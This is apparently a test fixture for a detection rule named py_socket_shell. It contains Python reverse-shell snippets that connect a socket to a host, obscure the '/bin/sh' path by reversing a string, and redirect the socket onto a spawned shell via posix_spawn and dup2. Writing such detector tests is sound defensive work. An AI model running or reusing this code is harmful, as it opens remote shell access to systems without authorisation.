# The socket's descriptor held in a name, handed to os.posix_spawn's file actions or to subprocess as stdin.
import os, pty, socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((host, port))
fd = s.fileno()
sh = "/bin/" + "hs"[::-1]
# ruleid: py_socket_shell
pid = os.posix_spawn(sh, [sh, "-i"], env, file_actions=[(os.POSIX_SPAWN_DUP2, fd, 0),
                                                         (os.POSIX_SPAWN_DUP2, fd, 1)])
# ruleid: py_socket_shell
for n in (0, 1, 2):
    os.dup2(fd, n)
__import__("pty").spawn(sh)
